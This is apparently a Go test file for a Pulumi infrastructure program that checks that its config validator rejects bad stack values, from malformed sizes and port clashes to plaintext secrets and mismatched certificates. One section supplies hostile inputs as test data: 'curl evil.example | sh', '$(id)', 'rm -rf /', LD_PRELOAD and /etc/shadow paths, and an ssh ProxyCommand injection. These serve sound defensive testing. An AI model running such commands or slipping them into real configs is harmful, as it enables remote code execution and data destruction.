package tests

import (
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/pulumi/pulumi/sdk/v3/go/common/workspace"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"gopkg.in/yaml.v3"

	"github.com/maricusco/infra/stacks"
)

func TestBadConfigIsRefused(t *testing.T) {
	dev, prod := loadStack(t, "dev"), loadStack(t, "prod")
	limit := func(svc, field, value string) map[string]any {
		return map[string]any{svc: map[string]any{"limits": map[string]string{field: value}}}
	}
	cases := []struct {
		name  string
		stack StackConfig
		want  []string
	}{
		{"a negative size", dev.with("resources", limit("app", "memory", "-1G")),
			[]string{"maricusco:resources.app.limits.memory", `"-1G" is not a size`, "e.g. 4G, 512M"}},
		{"4GB instead of 4G", dev.with("resources", limit("postgres", "memory", "4GB")),
			[]string{"maricusco:resources.postgres.limits.memory", `"4GB" is not a size`, "one of b, k, m, g"}},
		{"a CPU count that is not a number", dev.with("resources", limit("redis", "cpus", "two")),
			[]string{"maricusco:resources.redis.limits.cpus", `"two" is not a CPU count`}},
		{"a reservation above its limit", dev.with("resources", map[string]any{"grafana": map[string]any{"reservations": map[string]string{"memory": "1G"}}}),
			[]string{"maricusco:resources.grafana.reservations.memory", "1G is above the limit 512M"}},
		{"an unknown service name in resources", dev.with("resources", limit("mysql", "memory", "1G")),
			[]string{"maricusco:resources.mysql", "unknown service; use one of app, postgres, redis, chromadb, prometheus, grafana"}},
		{"an unknown field in resources", dev.with("resources", map[string]any{"app": map[string]any{"limit": map[string]string{"memory": "1G"}}}),
			[]string{"maricusco:resources", "field limit not found"}},
		{"two services on one host port", dev.with("ports", map[string]string{"postgres": "127.0.0.1:5432", "chromadb": "127.0.0.1:5432"}),
			[]string{"maricusco:ports.chromadb", "host port 5432 is already taken by postgres"}},
		{"a service on the edge's port", dev.with("ports", map[string]string{"chromadb": "127.0.0.1:8443"}),
			[]string{"maricusco:ports.chromadb", "host port 8443 is already taken by the edge"}},
		{"the edge's redirect on its https port", edgeWith(t, dev, map[string]any{"http": "127.0.0.1:8443"}),
			[]string{"maricusco:edge.http", "host port 8443 is already taken by the edge"}},
		{"a redirect that is not [ip:]port", edgeWith(t, dev, map[string]any{"http": "localhost:80"}),
			[]string{"maricusco:edge.http", `"localhost" is not an IP address`}},
		{"a redirect the routing mesh cannot publish", edgeWith(t, onSwarm(t, "prod"), map[string]any{"http": "127.0.0.1:80"}),
			[]string{"maricusco:edge.http", "cannot be published under swarm"}},
		{"a port out of range", prod.with("ports", map[string]string{"grafana": "0.0.0.0:70000"}),
			[]string{"maricusco:ports.grafana", `port "70000" is out of range; use 1 to 65535`}},
		{"an unknown service name in ports", prod.with("ports", map[string]string{"nginx": "8080"}),
			[]string{"maricusco:ports.nginx", "unknown service"}},
		{"a host address that is not an IP", prod.with("ports", map[string]string{"grafana": "example.com:3000"}),
			[]string{"maricusco:ports.grafana", `"example.com" is not an IP address`}},
		{"latest in prod", prod.with("appImage", "maricusco:latest"),
			[]string{"maricusco:appImage", `"maricusco:latest" is not pinned; prod needs a fixed tag or a digest`}},
		{"an untagged image in prod", prod.with("redisImage", "redis"),
			[]string{"maricusco:redisImage", `"redis" is not pinned`}},
		{"an image reference Docker cannot parse", dev.with("grafanaImage", "Grafana/Grafana:11"),
			[]string{"maricusco:grafanaImage", "is not an image reference"}},
		{"zero replicas", dev.with("appReplicas", "0"),
			[]string{"maricusco:appReplicas", "0 is out of range; run 1 to 100 instances"}},
		{"a replica count that is not a number", dev.with("appReplicas", "two"),
			[]string{"maricusco:appReplicas", `"two" is not a whole number`}},
		{"a duration without a unit", dev.with("healthcheckInterval", "30"),
			[]string{"maricusco:healthcheckInterval", `"30" is not a positive duration`}},
		{"a timeout longer than the interval", dev.with("healthcheckTimeout", "45s"),
			[]string{"maricusco:healthcheckTimeout", "45s must be shorter than healthcheckInterval (30s)"}},
		{"a restart policy Docker does not know", dev.with("restartPolicy", "sometimes"),
			[]string{"maricusco:restartPolicy", `"sometimes" is not a restart policy`}},
		{"a stack that is neither dev nor prod", dev.with("environment", "staging"),
			[]string{"maricusco:environment", `"staging" is not an environment; set dev or prod`}},
		{"a password in plaintext", prod.with(stacks.PostgresPasswordKey, "hunter2-hunter2"),
			[]string{"maricusco:postgresPassword", "is stored in plaintext", "pulumi config set --secret postgresPassword"}},
		{"secret app environment in plaintext", prod.with("appSecretEnv", map[string]string{"API_KEY": "abc"}),
			[]string{"maricusco:appSecretEnv", "is stored in plaintext"}},
		{"secret app environment that is not a map, without echoing it", prod.withSecret("appSecretEnv", "hunter2-leaked"),
			[]string{"maricusco:appSecretEnv", "details withheld"}},
		{"a weak secret", prod.withSecret(stacks.GrafanaAdminPasswordKey, "admin"),
			[]string{"maricusco:grafanaAdminPassword", "too weak"}},
		{"reload in prod", prod.with("appUvicornReload", "true"),
			[]string{"maricusco:appUvicornReload", "prod must run with false"}},
		{"an app variable the program manages", dev.with("appEnv", map[string]string{"POSTGRES_HOST": "db"}),
			[]string{"maricusco:appEnv.POSTGRES_HOST", "is set by the program"}},
		{"a retention Prometheus cannot read", dev.with("prometheusRetention", "two weeks"),
			[]string{"maricusco:prometheusRetention", `"two weeks" is not a positive Prometheus duration`}},
		{"an error ratio above 1", dev.with("alertErrorRatio", "5"),
			[]string{"maricusco:alertErrorRatio", "between 0 and 1"}},
		{"a Docker host that is not a URL", dev.with("dockerHost", "my-server"),
			[]string{"maricusco:dockerHost", `"my-server" is not a Docker host`}},
		{"memory that is not whole megabytes", dev.with("resources", map[string]any{"redis": map[string]any{"reservations": map[string]string{"memory": "1536k"}}}),
			[]string{"maricusco:resources.redis.reservations.memory", "not a whole number of megabytes"}},
		{"memory below Docker's minimum", dev.with("resources", limit("chromadb", "memory", "4M")),
			[]string{"maricusco:resources.chromadb.limits.memory", `"4M" is below Docker's minimum of 6M`}},
		{"no rotated log kept", dev.with("logMaxFile", "0"),
			[]string{"maricusco:logMaxFile", "0 is out of range; keep 1 to 100 files"}},
		{"a log size without a unit", dev.with("logMaxSize", "ten"),
			[]string{"maricusco:logMaxSize", `"ten" is not a size`}},
		{"a boolean that is not true or false", prod.with("protect", "yes"),
			[]string{"maricusco:protect", `"yes" is not a boolean; write true or false`}},
		{"a start interval below the engine's 1 ms", dev.with("healthcheckStartInterval", "500us"),
			[]string{"maricusco:healthcheckStartInterval", "500µs is out of range; use 1ms to 1h0m0s"}},
		{"an app port out of range", dev.with("appPort", "0"),
			[]string{"maricusco:appPort", "0 is out of range; use 1 to 65535"}},
		{"too many workers", prod.with("appUvicornWorkers", "512"),
			[]string{"maricusco:appUvicornWorkers", "512 is out of range; use 1 to 64 workers"}},
		{"a guardrail that does not exist", prod.with("waivers", []string{"no-healthchecks"}),
			[]string{"maricusco:waivers", `"no-healthchecks" is not a guardrail; waive one of pinned-images, published-ports, restart-policy`}},
		{"a database data port published to the world in prod", prod.with("ports", map[string]string{"postgres": "0.0.0.0:5432"}),
			[]string{"maricusco:ports.postgres", "guardrail published-ports", "bind it to 127.0.0.1", "waivers[0]' published-ports"}},
		{"a database name that is not an identifier", dev.with("postgresDb", "my-db"),
			[]string{"maricusco:postgresDb", `"my-db" is not a plain identifier`}},
		{"app.replicas set with --path instead of appReplicas", dev.with("app", map[string]string{"replicas": "3"}),
			[]string{"maricusco:app: is not a key of this program", "did you mean appReplicas?", "pulumi config rm app"}},
		{"a misspelt key", prod.with("appReplica", "3"),
			[]string{"maricusco:appReplica: is not a key of this program", "did you mean appReplicas?"}},
		{"an unknown secret key, without echoing it", prod.withSecret("grafanaPassword", "hunter2-leaked"),
			[]string{"maricusco:grafanaPassword", "did you mean grafanaAdminPassword?"}},
		{"backups more often than every 15 minutes", dev.with("backup", map[string]any{"interval": "5m"}),
			[]string{"maricusco:backup.interval", "5m is out of range; back up every 15m0s to 168h0m0s"}},
		{"a backup interval that is not a duration", prod.with("backup", map[string]any{"interval": "daily"}),
			[]string{"maricusco:backup.interval", `"daily" is not a duration`}},
		{"no backup kept", prod.with("backup", map[string]any{"keep": 0}),
			[]string{"maricusco:backup.keep", "0 is out of range; keep 1 to 365 backups of each kind"}},
		{"a misspelt backup field", dev.with("backup", map[string]any{"intervall": "1h"}),
			[]string{"maricusco:backup", "field intervall not found"}},
		{"an engine API version that is not one", dev.with("dockerApiVersion", "26.1"),
			[]string{"maricusco:dockerApiVersion", `"26.1" is not an API version`}},

		// Values that turn a limit off or make it absurd.
		{"a dump every second", dev.with("backup", map[string]any{"interval": "0s"}),
			[]string{"maricusco:backup.interval", "0s is out of range; back up every 15m0s to 168h0m0s"}},
		{"a weekly base backup and more", dev.with("backup", map[string]any{"interval": "720h"}),
			[]string{"maricusco:backup.interval", "720h is out of range"}},
		{"thousands of backups kept", dev.with("backup", map[string]any{"keep": 100000}),
			[]string{"maricusco:backup.keep", "100000 is out of range"}},
		{"a WAL age limit shorter than the checks", dev.with("backup", map[string]any{"walMaxAge": "1s"}),
			[]string{"maricusco:backup.walMaxAge", "1s is out of range; use 30s to 24h0m0s"}},
		{"a WAL retention limit of a few bytes", dev.with("backup", map[string]any{"walRetainedLimit": "1M"}),
			[]string{"maricusco:backup.walRetainedLimit", "1M is out of range"}},
		{"a CPU limit Docker rounds to none", dev.with("resources", limit("redis", "cpus", "0.001")),
			[]string{"maricusco:resources.redis.limits.cpus", "0.00 is out of range; use 0.01 to 1024.00 CPUs"}},
		{"a CPU limit larger than any host", dev.with("resources", limit("redis", "cpus", "100000")),
			[]string{"maricusco:resources.redis.limits.cpus", "100000.00 is out of range"}},
		{"a memory limit larger than any host", dev.with("resources", limit("redis", "memory", "9999999G")),
			[]string{"maricusco:resources.redis.limits.memory", "9999999G is out of range; use 6M to 4096G"}},
		{"a CPU limit the provider reads back as another", dev.with("resources", limit("redis", "cpus", "0.05")),
			[]string{"maricusco:resources.redis.limits.cpus", "0.05 cannot be set on one engine: the docker provider reads it back as 0.1"}},
		{"thousands of log files", dev.with("logMaxFile", "100000"),
			[]string{"maricusco:logMaxFile", "100000 is out of range; keep 1 to 100 files"}},
		{"a log rotated at every line", dev.with("logMaxSize", "1b"),
			[]string{"maricusco:logMaxSize", "1b is out of range; rotate at 100K to 1G"}},
		{"a scrape every millisecond", dev.with("prometheusScrapeInterval", "1ms"),
			[]string{"maricusco:prometheusScrapeInterval", "1ms is out of range; scrape every 1s to 1h"}},
		{"samples kept a minute", dev.with("prometheusRetention", "1m"),
			[]string{"maricusco:prometheusRetention", "1m is out of range; keep samples 2h (one block) to 10y"}},
		{"an alert that can never fire", dev.with("alertErrorRatio", "NaN"),
			[]string{"maricusco:alertErrorRatio", `"NaN" is not a ratio`}},
		{"a healthcheck every millisecond", dev.with("healthcheckInterval", "1ms"),
			[]string{"maricusco:healthcheckInterval", "1ms is out of range; use 1s to 1h0m0s"}},
		{"a healthcheck that never turns unhealthy", dev.with("healthcheckRetries", "1000"),
			[]string{"maricusco:healthcheckRetries", "1000 is out of range; use 1 to 10"}},
		{"no time to become healthy", dev.with("healthyTimeout", "1s"),
			[]string{"maricusco:healthyTimeout", "1s is out of range; use 10s to 2h0m0s"}},

		// Names the server or Docker would refuse at start.
		{"a role PostgreSQL keeps for itself", dev.with("postgresUser", "pg_app"),
			[]string{"maricusco:postgresUser", `"pg_app" begins with pg_`}},
		{"a role longer than PostgreSQL takes", dev.with("postgresUser", strings.Repeat("a", 64)),
			[]string{"maricusco:postgresUser", "is longer than PostgreSQL's 63 bytes"}},
		{"the superuser's name for the app", dev.with("postgresUser", "postgres"),
			[]string{"maricusco:postgresUser", `"postgres" is the program's own`}},
		{"the backup role's name for the app", dev.with("postgresUser", "backup"),
			[]string{"maricusco:postgresUser", `"backup" is the program's own`}},
		{"a template as the database", dev.with("postgresDb", "template1"),
			[]string{"maricusco:postgresDb", `"template1" is the program's own`}},
		{"a prefix too long for Docker's names", dev.with("namePrefix", strings.Repeat("m", 33)),
			[]string{"maricusco:namePrefix", "use up to 32 lower-case letters"}},

		// Text that reaches a shell or a config file.
		{"a newline in the Grafana login", dev.with("grafanaAdminUser", "admin\nGF_AUTH_ANONYMOUS_ENABLED=true"),
			[]string{"maricusco:grafanaAdminUser", "holds a control character"}},
		{"a Grafana login with spaces", dev.with("grafanaAdminUser", "the admin"),
			[]string{"maricusco:grafanaAdminUser", `"the admin" is not a login`}},
		{"shell in the Uvicorn arguments", dev.with("appExtraUvicornArgs", "--log-level info; curl evil.example | sh"),
			[]string{"maricusco:appExtraUvicornArgs", "may hold only letters, digits, spaces"}},
		{"a command substitution in the Uvicorn arguments", dev.with("appExtraUvicornArgs", "--root-path $(id)"),
			[]string{"maricusco:appExtraUvicornArgs"}},
		{"a password variable in the app's environment", dev.with("appEnv", map[string]string{"POSTGRES_PASSWORD": "x"}),
			[]string{"maricusco:appEnv.POSTGRES_PASSWORD", "names a credential"}},
		{"a file variable in the app's environment", dev.with("appEnv", map[string]string{"REDIS_PASSWORD_FILE": "/etc/shadow"}),
			[]string{"maricusco:appEnv.REDIS_PASSWORD_FILE", "is set by the program"}},
		{"another file variable in the app's environment", dev.with("appEnv", map[string]string{"CERT_FILE": "/etc/shadow"}),
			[]string{"maricusco:appEnv.CERT_FILE", "names a credential"}},
		{"the loader in the app's environment", dev.with("appEnv", map[string]string{"LD_PRELOAD": "/tmp/x.so"}),
			[]string{"maricusco:appEnv.LD_PRELOAD", "changes what runs in the container"}},
		{"Python's start-up in the app's environment", dev.with("appEnv", map[string]string{"PYTHONSTARTUP": "/tmp/x.py"}),
			[]string{"maricusco:appEnv.PYTHONSTARTUP", "changes what runs"}},
		{"a newline in an app variable", dev.with("appEnv", map[string]string{"GREETING": "a\nb"}),
			[]string{"maricusco:appEnv.GREETING", "holds a control character"}},
		{"a variable in both app environments", prod.with("appEnv", map[string]string{"API_KEY": "x"}).withSecret("appSecretEnv", map[string]string{"API_KEY": "y"}),
			[]string{"maricusco:appSecretEnv.API_KEY", "is also in appEnv"}},
		{"an ssh option as the Docker host", dev.with("dockerHost", "ssh://-oProxyCommand=x"),
			[]string{"maricusco:dockerHost", "is not a host name or address"}},
		{"a password in the Docker host", dev.with("dockerHost", "ssh://deploy:hunter2@host"),
			[]string{"maricusco:dockerHost", "no password"}},
		{"a Docker host with a query", dev.with("dockerHost", "tcp://host:2376?x=1"),
			[]string{"maricusco:dockerHost", "no query"}},
		{"one host port written two ways", dev.with("ports", map[string]string{"postgres": "[::]:8000", "chromadb": "127.0.0.1:8000"}),
			[]string{"maricusco:ports.chromadb", "host port 8000 is already taken by postgres"}},
		{"a module that is not module:attribute", dev.with("appModule", "app; rm -rf /"),
			[]string{"maricusco:appModule", "is not module:attribute"}},
		{"a listen address that is not an IP", dev.with("appHost", "everywhere"),
			[]string{"maricusco:appHost", `"everywhere" is not an IP address`}},

		// The edge's certificate.
		{"prod's edge without its certificate and key", edgeWith(t, prod, map[string]any{"certificate": nil}).with(stacks.EdgePrivateKeyKey, nil),
			[]string{"maricusco:edge.certificate", "edge.tls is files", "config set --path edge.certificate", "config set --secret edgePrivateKey"}},
		{"a self-signed edge not issued yet", edgeWith(t, dev, map[string]any{"certificate": nil}),
			[]string{"maricusco:edge.certificate", "./deploy.sh dev up` (or preview) generates it"}},
		{"a TLS source that is none", edgeWith(t, dev, map[string]any{"tls": "acme"}),
			[]string{"maricusco:edge.tls", `"acme" is no TLS source; use self-signed or files`}},
		{"a hostname that is none", edgeWith(t, dev, map[string]any{"hostname": "maricusco_test"}),
			[]string{"maricusco:edge.hostname", "is not a host name"}},
		{"a certificate for another name", edgeCertificate(t, prod, "maricusco.test", "other.test", 0, ""),
			[]string{"maricusco:edge.certificate", "is for other.test, localhost", `not edge.hostname "maricusco.test"`}},
		{"an expired certificate", edgeCertificate(t, prod, "maricusco.test", "maricusco.test", -900*24*time.Hour, ""),
			[]string{"maricusco:edge.certificate", "expired on"}},
		{"a certificate about to expire", edgeCertificate(t, prod, "maricusco.test", "maricusco.test", -815*24*time.Hour, ""),
			[]string{"maricusco:edge.certificate", "in less than 14 days"}},
		{"a key that is not the certificate's", edgeCertificate(t, prod, "maricusco.test", "maricusco.test", 0, "another key"),
			[]string{"maricusco:edgePrivateKey", "is not the key of edge.certificate"}},
		{"a self-signed key that is not the certificate's, as a half-done issue leaves it", edgeCertificate(t, dev, "localhost", "localhost", 0, "another key"),
			[]string{"maricusco:edgePrivateKey", "is not the key of edge.certificate", "config rm --path edge.certificate` and deploy.sh generates a new one"}},
		{"the private key inside the certificate chain", edgeKeyInChain(t, prod, "maricusco.test"),
			[]string{"maricusco:edge.certificate", "holds a PRIVATE KEY block (not shown)", "secret edgePrivateKey"}},
		{"a certificate that is no PEM", edgeWith(t, prod, map[string]any{"certificate": "hunter2"}),
			[]string{"maricusco:edge.certificate", "holds no PEM certificate"}},
		{"the edge's key in plaintext", plaintext(prod, stacks.EdgePrivateKeyKey).with(stacks.EdgePrivateKeyKey, "-----BEGIN PRIVATE KEY-----\nhunter2\n-----END PRIVATE KEY-----"),
			[]string{"maricusco:edgePrivateKey", "is stored in plaintext"}},

		// Secrets in the wrong place.
		{"the Docker host set as a secret", dev.withSecret("dockerHost", "ssh://deploy@hunter2-host"),
			[]string{"maricusco:dockerHost", "is set with --secret, but is no secret"}},
		{"an app variable set as a secret", dev.withSecret("appEnv", map[string]string{"TOKEN": "hunter2"}),
			[]string{"maricusco:appEnv", "is set with --secret, but is no secret", "appSecretEnv"}},
		{"the Grafana login set as a secret", dev.withSecret("grafanaAdminUser", "hunter2"),
			[]string{"maricusco:grafanaAdminUser", "is set with --secret, but is no secret"}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			res, err := run(t, tc.stack)
			require.Error(t, err)
			for _, w := range tc.want {
				assert.Contains(t, err.Error(), w)
			}
			assert.NotContains(t, err.Error(), "hunter2", "an error never echoes a secret")
			assert.Empty(t, res.Resources, "nothing may be registered when the config is bad")
		})
	}
}

func TestEveryConfigProblemIsReportedAtOnce(t *testing.T) {
	sc := loadStack(t, "prod").
		with("appImage", "maricusco:latest").
		with("appReplicas", "-1").
		with("ports", map[string]string{"grafana": "443"}).
		with("resources", map[string]any{"app": map[string]any{"limits": map[string]string{"memory": "4GB"}}})
	_, err := run(t, sc)
	require.Error(t, err)
	var cfgErr *stacks.ConfigError
	require.ErrorAs(t, err, &cfgErr)
	var keys []string
	for _, p := range cfgErr.Problems {
		keys = append(keys, p.Key)
	}
	assert.ElementsMatch(t, []string{"appImage", "appReplicas", "ports.grafana", "resources.app.limits.memory"}, keys)
	assert.Contains(t, err.Error(), "4 problem(s)")
}

// projectConfig reads Pulumi.yaml through Pulumi's own loader, which validates it against the
// project file schema.
func projectConfig(t *testing.T) map[string]workspace.ProjectConfigType {
	t.Helper()
	proj, err := workspace.LoadProject(filepath.Join(repoRoot, "Pulumi.yaml"))
	require.NoError(t, err)
	assert.Equal(t, "maricusco", proj.Name.String())
	assert.Equal(t, "go", proj.Runtime.Name())
	return proj.Config
}

func TestPulumiYamlDefaultsAreTheProgramsDefaults(t *testing.T) {
	declared := projectConfig(t)
	seen := map[string]bool{}
	for _, k := range stacks.Keys() {
		if k.Type == "object" || k.Secret {
			// Pulumi.yaml can declare neither objects nor optional secrets (a declared key without a
			// default is required, and a secret's default would be stored in plaintext).
			assert.NotContains(t, declared, k.Name)
			continue
		}
		seen[k.Name] = true
		d, ok := declared[k.Name]
		if !assert.True(t, ok, "Pulumi.yaml declares %s", k.Name) {
			continue
		}
		require.NotNil(t, d.Type, k.Name)
		assert.Equal(t, k.Type, *d.Type, k.Name)
		if k.Type == "array" {
			require.NotNil(t, d.Items, k.Name)
			assert.Equal(t, "string", d.Items.Type, k.Name)
			assert.Empty(t, d.Default, k.Name)
			assert.Empty(t, k.Default, k.Name)
		} else {
			assert.Equal(t, k.Default, d.Default, k.Name)
		}
		assert.Equal(t, k.Description, d.Description, k.Name)
	}
	for name := range declared {
		assert.True(t, seen[name], "Pulumi.yaml declares %s, which the program does not read", name)
	}
}

func TestShippedStackValuesHaveTheDeclaredTypes(t *testing.T) {
	declared := projectConfig(t)
	for _, name := range shippedStacks {
		t.Run(name, func(t *testing.T) {
			raw, err := os.ReadFile(filepath.Join(repoRoot, "Pulumi."+name+".yaml"))
			require.NoError(t, err)
			var doc struct {
				Config map[string]any `yaml:"config"`
			}
			require.NoError(t, yaml.Unmarshal(raw, &doc))
			known := map[string]bool{}
			for _, k := range stacks.Keys() {
				known[k.Name] = true
			}
			for full, value := range doc.Config {
				key, ok := strings.CutPrefix(full, stacks.Namespace+":")
				require.True(t, ok, "%s is in the %s namespace", full, stacks.Namespace)
				assert.True(t, known[key], "%s is a key the program reads", full)
				if d, ok := declared[key]; ok && d.Type != nil {
					assert.True(t, workspace.ValidateConfigValue(*d.Type, d.Items, value), "%s = %v is a %s", full, value, *d.Type)
				}
			}
		})
	}
}

// edgeWith is the stack with fields of its edge changed; a nil value removes the field.
func edgeWith(t testing.TB, sc StackConfig, fields map[string]any) StackConfig {
	t.Helper()
	edge := map[string]any{}
	if raw, ok := sc.Values[stacks.Namespace+":edge"]; ok {
		require.NoError(t, json.Unmarshal([]byte(raw), &edge))
	}
	for k, v := range fields {
		if v == nil {
			delete(edge, k)
		} else {
			edge[k] = v
		}
	}
	return sc.with("edge", edge)
}

// edgeCertificate is the stack with edge.hostname hostname and a certificate for issuedFor, issued
// age ago (its lifetime is 825 days), and its key, or another when otherKey is set.
func edgeCertificate(t *testing.T, sc StackConfig, hostname, issuedFor string, age time.Duration, otherKey string) StackConfig {
	t.Helper()
	chain, key, err := stacks.NewSelfSignedEdge(sc.Name, issuedFor, time.Now().Add(age))
	require.NoError(t, err)
	if otherKey != "" {
		_, key, err = stacks.NewSelfSignedEdge(sc.Name, issuedFor, time.Now())
		require.NoError(t, err)
	}
	return edgeWith(t, sc, map[string]any{"hostname": hostname, "certificate": chain}).withSecret(stacks.EdgePrivateKeyKey, key)
}

// edgeKeyInChain is the stack with a certificate for hostname whose chain also holds its key, as
// a combined PEM file would.
func edgeKeyInChain(t *testing.T, sc StackConfig, hostname string) StackConfig {
	t.Helper()
	chain, key, err := stacks.NewSelfSignedEdge(sc.Name, hostname, time.Now())
	require.NoError(t, err)
	return edgeWith(t, sc, map[string]any{"hostname": hostname, "certificate": chain + key}).withSecret(stacks.EdgePrivateKeyKey, key)
}

// plaintext is the stack with key no longer marked secret, as a value set without --secret.
func plaintext(sc StackConfig, key string) StackConfig {
	out := sc.with("", nil)
	out.Secrets = slices.DeleteFunc(out.Secrets, func(k string) bool { return k == stacks.Namespace+":"+key })
	return out
}
